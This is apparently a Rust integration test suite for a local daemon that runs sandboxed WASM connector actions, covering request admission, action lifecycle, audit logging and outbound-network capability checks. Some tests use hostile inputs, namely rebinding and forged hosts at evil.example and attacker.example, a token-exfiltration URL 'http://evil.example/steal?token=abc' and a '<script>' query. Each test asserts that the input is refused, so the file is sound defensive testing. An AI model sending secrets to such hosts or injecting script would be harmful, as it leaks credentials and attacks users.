//! The HTTP API through `app()` with `oneshot`: admission (Host, Origin, token), the action
//! lifecycle, argument validation, and runs against a real loopback upstream.

use crate::fake_github::FakeGithub;
use http::{Request, StatusCode};
use serde_json::json;

use crate::support::{ActionSpec, Harness, PORT, TOKEN, guest_wasm, manifest};

#[tokio::test]
async fn admission_checks_host_origin_and_token() {
    let harness = Harness::new();
    let health =
        harness.send(Request::builder().uri("/v1/health").header("host", format!("127.0.0.1:{PORT}")), None).await;
    assert_eq!(health.status, StatusCode::OK);
    assert!(health.headers.contains_key("x-request-id"), "every response carries X-Request-ID");

    let cases = [
        ("no token", format!("127.0.0.1:{PORT}"), None, None, StatusCode::UNAUTHORIZED),
        ("wrong token", format!("127.0.0.1:{PORT}"), Some("Bearer nope"), None, StatusCode::UNAUTHORIZED),
        ("rebinding host", "evil.example:80".to_string(), Some(TOKEN), None, StatusCode::FORBIDDEN),
        ("other port", "127.0.0.1:1".to_string(), Some(TOKEN), None, StatusCode::FORBIDDEN),
        (
            "foreign origin",
            format!("127.0.0.1:{PORT}"),
            Some(TOKEN),
            Some("http://evil.example"),
            StatusCode::FORBIDDEN,
        ),
        (
            "own origin",
            format!("localhost:{PORT}"),
            Some(TOKEN),
            Some(&*format!("http://127.0.0.1:{PORT}")),
            StatusCode::OK,
        ),
        ("admin token", format!("127.0.0.1:{PORT}"), Some(TOKEN), None, StatusCode::OK),
    ];
    for (label, host, token, origin, expected) in cases {
        let mut builder = Request::builder().uri("/v1/status").header("host", host);
        if let Some(token) = token {
            let value = if token.starts_with("Bearer ") { token.to_string() } else { format!("Bearer {token}") };
            builder = builder.header("authorization", value);
        }
        if let Some(origin) = origin {
            builder = builder.header("origin", origin);
        }
        let response = harness.send(builder, None).await;
        assert_eq!(response.status, expected, "{label}: {}", response.body);
        assert!(response.headers.contains_key("x-request-id"), "{label}");
    }
    let forged = harness.send(Request::builder().uri("/v1/health").header("host", "attacker.example"), None).await;
    assert_eq!(forged.status, StatusCode::FORBIDDEN, "even health checks the Host");
}

/// Install compiles the module and says what that cost; a module that does not compile stays
/// installed (its runs fail as they always did) and the answer says why, so the CLI can warn at
/// install rather than at the first run.
#[tokio::test]
async fn install_compiles_the_module_and_reports_one_that_does_not_load() {
    let harness = Harness::new();
    let good = harness.install_answer("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
    assert_eq!(good["compiled"]["ok"], true, "{good}");
    assert!(good["compiled"]["artifact_bytes"].as_u64().unwrap() > 0, "{good}");
    assert!(good["compiled"]["milliseconds"].is_u64(), "{good}");
    let stats = harness.state.services.sandbox.cache_stats();
    assert_eq!(stats.compiles, 1, "install compiled the module: {stats:?}");

    let broken =
        harness.install_answer("broken", b"\0asm\x01\0\0\0 this is not a module", &manifest("broken", &[], "")).await;
    assert_eq!(broken["compiled"]["ok"], false, "{broken}");
    let error = broken["compiled"]["error"].as_str().unwrap();
    assert!(error.contains("does not compile"), "{error}");
    let hash = broken["hash"].as_str().unwrap();
    let spec = ActionSpec::new("uses-broken", "broken", hash, "echo");
    let added = harness.add_action("uses-broken.md", &spec.render()).await;
    assert_eq!(added.status, StatusCode::CREATED, "{}", added.body);
    let run = harness.run("uses-broken", json!({})).await;
    assert!(run.body["error"]["message"].as_str().unwrap().contains("does not compile"), "{}", run.body);
}

/// After a restart the daemon loads, in the background, the modules its enabled actions pin —
/// each compiled artifact read while the connector's bytes are verified against their hash — so
/// the first call finds them in memory; a module only a disabled action uses stays on disk, and a
/// module whose stored bytes were changed is not kept (its run fails with `hash_mismatch`, as it
/// did before there was a warm-up).
#[tokio::test(flavor = "multi_thread")]
async fn a_restarted_daemon_warms_up_only_verified_modules_enabled_actions_pin() {
    let harness = Harness::new();
    let echo = harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
    let spare = harness.install("spare", &guest_wasm("echo"), &manifest("spare", &[], "")).await;
    let tampered = harness.install("tampered", &guest_wasm("echo"), &manifest("tampered", &[], "")).await;
    for (name, connector, hash) in
        [("uses-echo", "echo", &echo), ("uses-spare", "spare", &spare), ("uses-tampered", "tampered", &tampered)]
    {
        let spec =
            ActionSpec { inputs: &[("message", "string", true)], ..ActionSpec::new(name, connector, hash, "echo") };
        let added = harness.add_action(&format!("{name}.md"), &spec.render()).await;
        assert_eq!(added.status, StatusCode::CREATED, "{}", added.body);
    }
    let disabled = harness.request("PATCH", "/v1/actions/uses-spare", Some(json!({"enabled": false}))).await;
    assert_eq!(disabled.status, StatusCode::OK, "{}", disabled.body);
    let tampered_hash = aileron_core::ContentHash::parse(&tampered).unwrap();
    let wasm_path = harness.state.services.store.entry_dir(&tampered_hash).join("connector.wasm");
    let mut bytes = std::fs::read(&wasm_path).unwrap();
    *bytes.last_mut().unwrap() ^= 1;
    std::fs::write(&wasm_path, bytes).unwrap();

    let crate::support::Harness { temp, home, state, router } = harness;
    drop(router);
    tokio::task::block_in_place(move || drop(state));
    let mut options = aileron::surfaces::daemon::StateOptions::new(crate::support::TOKEN.into());
    options.listen_port = PORT;
    let state = aileron::surfaces::daemon::AppState::open(home.clone(), options).expect("the daemon restarts");
    assert!(!state.services.modules_warm.load(std::sync::atomic::Ordering::Acquire));
    aileron::runner::warm_up(&state.services).await.unwrap();
    assert!(state.services.modules_warm.load(std::sync::atomic::Ordering::Acquire));
    let stats = state.services.sandbox.cache_stats();
    // Each enabled action's artifact is read while its connector's bytes are verified; the
    // tampered one's is dropped once its bytes fail.
    assert_eq!((stats.disk_hits, stats.compiles), (2, 0), "only enabled actions' connectors were read: {stats:?}");
    let policy = aileron_sandbox::ImportPolicy::default();
    let loaded =
        |hash: &str| state.services.sandbox.loaded(&aileron_core::ContentHash::parse(hash).unwrap(), &policy).is_some();
    assert!(loaded(&echo), "the module an enabled action pins is in memory");
    assert!(!loaded(&spare), "a module only a disabled action pins stays on disk");
    assert!(!loaded(&tampered), "a module whose bytes changed is not loaded");

    let harness = crate::support::Harness { temp, home, router: aileron::surfaces::daemon::app(state.clone()), state };
    let run = harness.run("uses-echo", json!({"message": "after a restart"})).await;
    assert_eq!(run.status, StatusCode::OK, "{}", run.body);
    let stats = harness.state.services.sandbox.cache_stats();
    assert_eq!((stats.disk_hits, stats.compiles), (2, 0), "the first run took the warmed module: {stats:?}");
    let refused = harness.run("uses-tampered", json!({"message": "x"})).await;
    assert_eq!(refused.body["error"]["class"], "hash_mismatch", "{}", refused.body);
}

/// The console's actions page renders at most `ACTIONS_SHOWN` actions, and its search (kept in
/// the URL; name, tool name or description, any case) narrows which: a large catalog stays a
/// light page instead of megabytes fetched again on every change.
#[tokio::test]
async fn the_actions_page_shows_at_most_a_hundred_actions_and_searches_the_rest() {
    use aileron::surfaces::daemon::web::catalog::ACTIONS_SHOWN;
    let harness = Harness::new();
    let hash = harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
    let names: Vec<String> =
        (0..120).map(|i| format!("alpha-{i:03}")).chain((0..10).map(|i| format!("beta-{i:03}"))).collect();
    for name in &names {
        let added =
            harness.add_action(&format!("{name}.md"), &ActionSpec::new(name, "echo", &hash, "echo").render()).await;
        assert_eq!(added.status, StatusCode::CREATED, "{}", added.body);
    }
    let host = format!("127.0.0.1:{PORT}");
    let cookie = harness.console_cookie().await;
    let page = async |path: &str, fragment: bool| {
        let mut request = Request::builder().uri(path).header("host", &host).header("cookie", &cookie);
        if fragment {
            request = request.header("x-aileron-fragment", "1");
        }
        let response = harness.send(request, None).await;
        assert_eq!(response.status, StatusCode::OK, "{path}");
        response.body.as_str().unwrap().to_string()
    };
    let shown = |html: &str| -> Vec<String> {
        html.split("<details id=\"action-").skip(1).map(|rest| rest.split('"').next().unwrap().to_string()).collect()
    };

    let everything = page("/actions", false).await;
    assert_eq!(shown(&everything), names[..ACTIONS_SHOWN].to_vec(), "the first hundred, in name order");
    assert!(
        everything.contains("130 actions, 130 enabled.") && everything.contains("Showing the first 100"),
        "{everything}"
    );
    assert!(everything.contains("id=\"f-q\""), "the search box");

    let beta = page("/actions?q=beta", false).await;
    assert_eq!(shown(&beta), names[120..].to_vec());
    assert!(beta.contains("10 match “beta”") && !beta.contains("Showing the first"), "{beta}");
    assert!(beta.contains("value=\"beta\""), "the box keeps the search");
    assert_eq!(
        shown(&page("/actions?q=%20BETA-007%20", true).await),
        ["beta-007"],
        "any case, trimmed, as a fragment too"
    );
    assert_eq!(shown(&page("/actions?q=alpha_011", true).await), ["alpha-011"], "by tool name");
    assert_eq!(shown(&page("/actions?q=used+by+the+test", true).await).len(), ACTIONS_SHOWN, "by description");
    let none = page("/actions?q=nothing-like-this", true).await;
    assert!(shown(&none).is_empty() && none.contains("id=\"no-match\""), "{none}");
    let hostile = page("/actions?q=%3Cscript%3E", false).await;
    assert!(
        !hostile.contains("<script>") && hostile.contains("&lt;script&gt;"),
        "the search is escaped where it is shown"
    );
    assert_eq!(
        shown(&page("/actions?q=aileron-tests/echo", true).await).len(),
        ACTIONS_SHOWN,
        "by a required connector"
    );

    // An action named exactly as the search comes first, however many others contain its name.
    for name in ["alpha-0", "alpha-00"] {
        let added =
            harness.add_action(&format!("{name}.md"), &ActionSpec::new(name, "echo", &hash, "echo").render()).await;
        assert_eq!(added.status, StatusCode::CREATED, "{}", added.body);
    }
    let exact = shown(&page("/actions?q=alpha-0", true).await);
    assert_eq!(
        (exact.len(), exact[0].as_str(), exact[1].as_str()),
        (ACTIONS_SHOWN, "alpha-0", "alpha-00"),
        "{exact:?}"
    );

    // The connectors page names 20 users and links to each (by a search that shows it) and to the rest.
    let connectors = page("/connectors", true).await;
    let used_by = connectors.split("<p class=\"used-by\">").nth(1).unwrap().split("</p>").next().unwrap();
    assert_eq!(used_by.matches("<a href=\"/actions?q=").count(), 20, "{used_by}");
    assert!(used_by.contains("<a href=\"/actions?q=alpha-0#action-alpha-0\">alpha-0</a>"), "{used_by}");
    assert!(
        used_by.contains(
            "and <a class=\"more-users\" href=\"/actions?q=github%3A%2F%2Faileron-tests%2Fecho\">112 more</a>"
        ),
        "{used_by}"
    );
}

/// `GET /v1/actions` is served from a listing kept per generation of the action set, with each
/// action's view kept per installed file: after every kind of change it must equal a listing
/// built from scratch, and never answer from before the change.
#[tokio::test]
async fn the_cached_action_listing_follows_every_change() {
    let harness = Harness::new();
    let hash = harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
    let fresh = || {
        let (items, load_errors) = harness.state.services.actions.list();
        let items = items.iter().map(|a| aileron::workflows::actions::action_view(&a.file, a.enabled)).collect();
        serde_json::to_value(aileron::wire::ActionList { items, load_errors }).unwrap()
    };
    let listed = async || {
        let listing = harness.request("GET", "/v1/actions", None).await;
        assert_eq!(listing.status, StatusCode::OK, "{}", listing.body);
        assert_eq!(listing.headers["content-type"], "application/json");
        listing.body
    };
    let add = async |name: &str, intent: &str| {
        let text = ActionSpec::new(name, "echo", &hash, "echo")
            .render()
            .replace("intent = \"test ", &format!("intent = \"{intent} "));
        let added = harness.replace_action(&format!("{name}.md"), &text).await;
        assert_eq!(added.status, StatusCode::CREATED, "{}", added.body);
    };
    assert_eq!(listed().await, fresh(), "empty");
    for name in ["b-action", "a-action", "c-action"] {
        add(name, "first").await;
        assert_eq!(listed().await, fresh(), "after adding {name}");
    }
    assert_eq!(listed().await["items"].as_array().unwrap().len(), 3);
    // Replaced in place: same name, new file.
    add("b-action", "second").await;
    let listing = listed().await;
    assert_eq!(listing, fresh(), "after replacing b-action");
    assert!(listing["items"][1]["intent"].as_str().unwrap().starts_with("second"), "{}", listing["items"][1]);
    for enabled in [false, true] {
        let patched = harness.request("PATCH", "/v1/actions/c-action", Some(json!({"enabled": enabled}))).await;
        assert_eq!(patched.status, StatusCode::OK, "{}", patched.body);
        let listing = listed().await;
        assert_eq!(listing, fresh(), "after enabled = {enabled}");
        assert_eq!(listing["items"][2]["enabled"], enabled);
    }
    let removed = harness.request("DELETE", "/v1/actions/a-action", None).await;
    assert_eq!(removed.status, StatusCode::NO_CONTENT, "{}", removed.body);
    let listing = listed().await;
    assert_eq!(listing, fresh(), "after removing a-action");
    assert_eq!(listing["items"].as_array().unwrap().len(), 2);
    // Nothing changed: the same answer again.
    assert_eq!(listed().await, listing);
}

#[tokio::test]
async fn action_lifecycle_add_list_disable_enable_remove() {
    let harness = Harness::new();
    let hash = harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
    let spec =
        ActionSpec { inputs: &[("message", "string", true)], ..ActionSpec::new("say-hello", "echo", &hash, "echo") };
    let added = harness.add_action("say-hello.md", &spec.render()).await;
    assert_eq!(added.status, StatusCode::CREATED, "{}", added.body);
    assert_eq!(added.body["tool_name"], "say_hello");

    let listing = harness.request("GET", "/v1/actions", None).await;
    assert_eq!(listing.body["items"][0]["name"], "say-hello");
    assert_eq!(listing.body["items"][0]["input_schema"]["required"], json!(["message"]));
    assert_eq!(listing.body["load_errors"], json!([]));

    let disabled = harness.request("PATCH", "/v1/actions/say-hello", Some(json!({"enabled": false}))).await;
    assert_eq!(disabled.body["enabled"], false);
    let refused = harness.run("say-hello", json!({"message": "hi"})).await;
    assert_eq!(refused.status, StatusCode::CONFLICT);
    assert_eq!(refused.body["error"]["code"], "action_disabled");
    assert!(std::fs::read_to_string(harness.home.action_state()).unwrap().contains("false"), "state overlay persisted");

    harness.request("PATCH", "/v1/actions/say-hello", Some(json!({"enabled": true}))).await;
    let ran = harness.run("say-hello", json!({"message": "hi"})).await;
    assert_eq!(ran.status, StatusCode::OK, "{}", ran.body);
    assert_eq!(ran.body["result"]["action"], "say-hello");
    assert_eq!(ran.body["result"]["output"]["args"]["message"], "hi");
    let audit_id = ran.body["audit_id"].as_str().unwrap();
    let records = harness.audit_for(audit_id).await;
    assert_eq!(records.len(), 1);
    assert_eq!(records[0]["event_type"], "action.executed");
    assert_eq!(records[0]["payload"]["aileron.action.name"], "say-hello");
    assert!(!records[0].to_string().contains("\"hi\""), "argument values are not audited");

    let removed = harness.request("DELETE", "/v1/actions/say-hello", None).await;
    assert_eq!(removed.status, StatusCode::NO_CONTENT);
    assert!(!harness.home.actions_dir().join("say-hello.md").exists());
    let gone = harness.run("say-hello", json!({})).await;
    assert_eq!(gone.status, StatusCode::NOT_FOUND);
    assert!(gone.body["error"]["hint"].as_str().unwrap().contains("aileron action list"));
}

/// `GET /v1/audit` filters by action, pages by seq, and answers a bad time bound with 400.
#[tokio::test]
async fn audit_listing_filters_pages_and_rejects_bad_times() {
    let harness = Harness::new();
    let hash = harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
    let spec =
        ActionSpec { inputs: &[("message", "string", true)], ..ActionSpec::new("say-hello", "echo", &hash, "echo") };
    assert_eq!(harness.add_action("say-hello.md", &spec.render()).await.status, StatusCode::CREATED);
    for _ in 0..3 {
        assert_eq!(harness.run("say-hello", json!({"message": "hi"})).await.status, StatusCode::OK);
    }
    async fn list(harness: &Harness, query: &str) -> crate::support::TestResponse {
        harness.request("GET", &format!("/v1/audit?{query}"), None).await
    }
    let seqs = |body: &serde_json::Value| -> Vec<u64> {
        body["items"].as_array().unwrap().iter().map(|r| r["seq"].as_u64().unwrap()).collect()
    };
    let runs = list(&harness, "action=say-hello&family=action.executed&top_level=true").await;
    assert_eq!(runs.status, StatusCode::OK, "{}", runs.body);
    let all = seqs(&runs.body);
    assert_eq!(all.len(), 3, "{}", runs.body);
    let first = list(&harness, "action=say-hello&family=action.executed&limit=2").await;
    let rest =
        list(&harness, &format!("action=say-hello&family=action.executed&limit=2&before_seq={}", seqs(&first.body)[1]))
            .await;
    assert_eq!([seqs(&first.body), seqs(&rest.body)].concat(), all, "pages are disjoint and cover the runs");

    let bad = list(&harness, "until=tomorrow").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST, "{}", bad.body);
    assert_eq!(bad.body["error"]["code"], "invalid_query");
    assert!(bad.body["error"]["message"].as_str().unwrap().contains("`until` value `tomorrow`"), "{}", bad.body);
}

#[tokio::test]
async fn adding_an_action_checks_its_connectors_and_parses_strictly() {
    let harness = Harness::new();
    let missing = ActionSpec::new(
        "orphan",
        "echo",
        "sha256:0000000000000000000000000000000000000000000000000000000000000000",
        "echo",
    );
    let response = harness.add_action("orphan.md", &missing.render()).await;
    assert_eq!(response.status, StatusCode::CONFLICT);
    assert_eq!(response.body["error"]["code"], "connector_not_installed");
    assert!(response.body["error"]["hint"].as_str().unwrap().contains("aileron connector install"));

    let hash = harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
    let text = ActionSpec::new("typo", "echo", &hash, "echo").render().replace("[match]", "[match]\nintnet = \"x\"");
    let response = harness.add_action("typo.md", &text).await;
    assert_eq!(response.status, StatusCode::BAD_REQUEST);
    assert_eq!(response.body["error"]["code"], "parse_error");
    let message = response.body["error"]["message"].as_str().unwrap();
    assert!(message.contains("typo.md:") && message.contains("intnet"), "{message}");

    let widening = ActionSpec {
        capabilities: &["echo", "network:evil.example:443"],
        ..ActionSpec::new("wide", "echo", &hash, "echo")
    };
    let response = harness.add_action("wide.md", &widening.render()).await;
    assert_eq!(response.status, StatusCode::BAD_REQUEST, "{}", response.body);
    assert_eq!(response.body["error"]["code"], "invalid_capabilities");
}

#[tokio::test]
async fn call_arguments_are_validated_and_author_fixed_inputs_win() {
    let harness = Harness::new();
    let hash = harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
    let spec = ActionSpec {
        inputs: &[("owner", "string", true), ("count", "integer", false), ("channel", "string", false)],
        step_inputs: "channel = \"#fixed-by-author\"\nsummary = \"${args.owner} has ${args.count}\"",
        ..ActionSpec::new("pinned", "echo", &hash, "echo")
    };
    assert_eq!(harness.add_action("pinned.md", &spec.render()).await.status, StatusCode::CREATED);

    let undeclared = harness.run("pinned", json!({"owner": "acme", "token": "x"})).await;
    assert_eq!(undeclared.status, StatusCode::BAD_REQUEST);
    assert_eq!(undeclared.body["error"]["code"], "invalid_args");
    let message = undeclared.body["error"]["message"].as_str().unwrap();
    assert!(message.contains("token") && message.contains("owner") && message.contains("count"), "{message}");

    let missing = harness.run("pinned", json!({"count": 1})).await;
    assert_eq!(missing.body["error"]["code"], "invalid_args");
    let wrong_type = harness.run("pinned", json!({"owner": "acme", "count": "three"})).await;
    assert_eq!(wrong_type.body["error"]["code"], "invalid_args");

    let ran = harness.run("pinned", json!({"owner": "acme", "count": 3, "channel": "#agent-choice"})).await;
    assert_eq!(ran.status, StatusCode::OK, "{}", ran.body);
    let args = &ran.body["result"]["output"]["args"];
    assert_eq!(args["channel"], "#fixed-by-author", "a value fixed by the author wins over the call");
    assert_eq!(args["summary"], "acme has 3");
    assert_eq!(args["count"], 3);
}

/// The SDK reads the request into 1 KiB of room first and grows it from there: a request a
/// hundred times larger (multi-byte characters and escapes included) reaches the guest whole, and
/// its answer comes back whole.
#[tokio::test]
async fn a_request_far_larger_than_the_sdks_first_read_arrives_whole() {
    let harness = Harness::new();
    let hash = harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
    let spec = ActionSpec { inputs: &[("text", "string", true)], ..ActionSpec::new("large", "echo", &hash, "echo") };
    assert_eq!(harness.add_action("large.md", &spec.render()).await.status, StatusCode::CREATED);
    let text = "é\"\n☂ line of a large request\t".repeat(4_000);
    let ran = harness.run("large", json!({"text": text})).await;
    assert_eq!(ran.status, StatusCode::OK, "{}", ran.body);
    assert_eq!(ran.body["result"]["output"]["args"]["text"].as_str(), Some(text.as_str()));
}

#[tokio::test]
async fn outbound_http_reaches_declared_hosts_and_is_denied_elsewhere() {
    let upstream = FakeGithub::start().await.unwrap();
    let harness = Harness::new();
    harness
        .guest_action("http_get", &[upstream.host_port()], "get", |spec| spec.inputs = &[("url", "string", true)])
        .await;

    let ok = harness.run("http_get", json!({"url": format!("{}/repos/a/b/issues", upstream.base_url())})).await;
    assert_eq!(ok.status, StatusCode::OK, "{}", ok.body);
    assert_eq!(ok.body["result"]["output"]["status"], 200);
    assert_eq!(upstream.recorder.count(), 1);

    let other_port = "http://127.0.0.1:1/x".to_string();
    for (url, requested) in [
        ("http://evil.example/steal?token=abc".to_string(), "network:evil.example:80"),
        (other_port, "network:127.0.0.1:1"),
    ] {
        let denied = harness.run("http_get", json!({ "url": url })).await;
        assert_eq!(denied.status, StatusCode::FORBIDDEN, "{url}: {}", denied.body);
        let error = &denied.body["error"];
        assert_eq!(error["class"], "capability_denied");
        assert_eq!(error["boundary"], "sandbox");
        assert!(error["details"]["requested"].as_str().unwrap().starts_with(requested), "{error}");
        let audit_id = error["audit_id"].as_str().unwrap();
        let records = harness.audit_for(audit_id).await;
        assert_eq!(records.len(), 1, "one failure record with the envelope's audit_id");
        assert_eq!(records[0]["event_type"], "execution.failed");
        assert_eq!(records[0]["payload"]["aileron.failure.class"], "capability_denied");
    }
    assert_eq!(upstream.recorder.count(), 1, "denied calls never reach the network");
    let rejected: Vec<_> =
        harness.audit().await.into_iter().filter(|r| r["event_type"] == "connector.proxy.rejected").collect();
    assert_eq!(rejected.len(), 2);
    assert!(rejected.iter().all(|r| !r.to_string().contains("token=abc")), "query strings are never audited");
    let proxied: Vec<_> =
        harness.audit().await.into_iter().filter(|r| r["event_type"] == "connector.proxy.proxied").collect();
    assert_eq!(proxied.len(), 1);
    assert_eq!(proxied[0]["payload"]["aileron.proxy.upstream.status"], 200);
    assert_eq!(proxied[0]["payload"]["aileron.proxy.upstream.path"], "/repos/a/b/issues");
}

#[tokio::test]
async fn an_action_subset_narrows_the_manifest_hosts() {
    let upstream = FakeGithub::start().await.unwrap();
    let other = FakeGithub::start().await.unwrap();
    let harness = Harness::new();
    let subset = format!("network:{}", upstream.host_port());
    let capabilities = ["get", subset.as_str()];
    let manifest_text = manifest("http_get", &[upstream.host_port(), other.host_port()], "");
    let hash = harness.install("http_get", &guest_wasm("http_get"), &manifest_text).await;
    let spec = ActionSpec {
        inputs: &[("url", "string", true)],
        capabilities: &capabilities,
        ..ActionSpec::new("http_get", "http_get", &hash, "get")
    };
    assert_eq!(harness.add_action("http_get.md", &spec.render()).await.status, StatusCode::CREATED);
    let allowed = harness.run("http_get", json!({"url": format!("{}/status/200", upstream.base_url())})).await;
    assert_eq!(allowed.status, StatusCode::OK, "{}", allowed.body);
    let narrowed = harness.run("http_get", json!({"url": format!("{}/status/200", other.base_url())})).await;
    assert_eq!(narrowed.status, StatusCode::FORBIDDEN);
    assert_eq!(narrowed.body["error"]["boundary"], "action");
    assert!(narrowed.body["error"]["details"]["declared_subset"].is_array());
    assert_eq!(other.recorder.count(), 0);
}

/// A body that is not the route's JSON gets the API's error shape, naming what was wrong, with
/// axum's status (400 syntax, 415 content type, 422 a wrong or unknown field).
#[tokio::test]
async fn malformed_bodies_get_the_api_error_shape() {
    let harness = Harness::new();
    let unknown_field =
        harness.request("POST", "/v1/sessions", Some(json!({"agent": "codex", "scopes": ["Admin"]}))).await;
    assert_eq!(unknown_field.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(unknown_field.body["error"]["code"], "invalid_body");
    assert!(unknown_field.body["error"]["message"].as_str().unwrap().contains("scopes"), "{}", unknown_field.body);
    assert!(unknown_field.body["error"]["hint"].is_string());

    let not_json = harness
        .send(
            http::Request::builder()
                .method("POST")
                .uri("/v1/action-approvals/act-x/decide")
                .header("host", format!("127.0.0.1:{}", crate::support::PORT))
                .header("authorization", format!("Bearer {}", crate::support::TOKEN))
                .header("content-type", "text/plain"),
            None,
        )
        .await;
    assert_eq!(not_json.status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert_eq!(not_json.body["error"]["code"], "invalid_body");
}

/// The console's chain check: intact, then one byte changed in a sealed record makes it name the
/// broken record and say what to do, without failing the request.
#[tokio::test]
async fn the_chain_check_names_the_first_broken_record() {
    let harness = Harness::new();
    harness.install("http_get", &guest_wasm("http_get"), &manifest("http_get", &[], "")).await;
    harness.install("echo", &guest_wasm("echo"), &manifest("echo", &[], "")).await;
    harness.state.services.audit.flush().await;
    let intact = harness.request("GET", "/v1/audit/verify", None).await;
    assert_eq!(intact.status, StatusCode::OK, "{}", intact.body);
    assert_eq!(intact.body["ok"], true, "{}", intact.body);
    let records = intact.body["records"].as_u64().unwrap();
    assert!(records >= 2, "{}", intact.body);
    assert_eq!(intact.body["last_seq"].as_u64(), Some(records));

    let dir = harness.state.services.audit.audit_dir().expect("the harness keeps its log on disk").to_path_buf();
    let file = std::fs::read_dir(&dir)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .find(|path| path.file_name().unwrap().to_string_lossy().starts_with("audit-"))
        .expect("a daily file");
    let text = std::fs::read_to_string(&file).unwrap();
    let tampered = text.replacen("aileron-tests/echo", "aileron-tests/ech0", 1);
    assert_ne!(text, tampered, "the second install is in the file");
    std::fs::write(&file, tampered).unwrap();
    let broken = harness.request("GET", "/v1/audit/verify", None).await;
    assert_eq!(broken.status, StatusCode::OK, "{}", broken.body);
    assert_eq!(broken.body["ok"], false, "{}", broken.body);
    let problem = broken.body["problem"].as_str().unwrap();
    let name = file.file_name().unwrap().to_string_lossy().to_string();
    assert!(problem.contains(&name), "the problem names the file: {problem}");
    assert!(broken.body["hint"].as_str().unwrap().contains("keep a copy"), "{}", broken.body);
}

/// `x-aileron-overhead-us` on every run answer (issue 49): the daemon's own time, the steps'
/// waits on their upstreams left out. The upstream sleeps 400 ms, so the daemon's handler took
/// at least that long and its own share is at most what the caller saw less those 400 ms; a
/// refused run says it too.
#[tokio::test]
async fn run_answers_give_the_daemons_own_time_without_the_upstreams_wait() {
    let upstream = FakeGithub::start().await.unwrap();
    let harness = Harness::new();
    harness
        .guest_action("http_get", &[upstream.host_port()], "get", |spec| spec.inputs = &[("url", "string", true)])
        .await;
    let overhead = |response: &crate::support::TestResponse| -> u128 {
        let header = response.headers.get("x-aileron-overhead-us").expect("the header on every run answer");
        header.to_str().unwrap().parse().unwrap()
    };
    let warm = harness.run("http_get", json!({"url": format!("{}/status/200", upstream.base_url())})).await;
    assert_eq!(warm.status, StatusCode::OK, "{}", warm.body);

    let at = std::time::Instant::now();
    let slow = harness.run("http_get", json!({"url": format!("{}/slow/400", upstream.base_url())})).await;
    let took = at.elapsed();
    assert_eq!(slow.status, StatusCode::OK, "{}", slow.body);
    let own = overhead(&slow);
    assert!(own > 0, "the daemon did some work");
    assert!(
        own <= took.as_micros().saturating_sub(400_000),
        "the 400 ms the upstream took is not the daemon's: {own} µs reported of {took:?}"
    );

    let missing = harness.run("no-such-action", json!({})).await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    assert!(overhead(&missing) > 0);
}
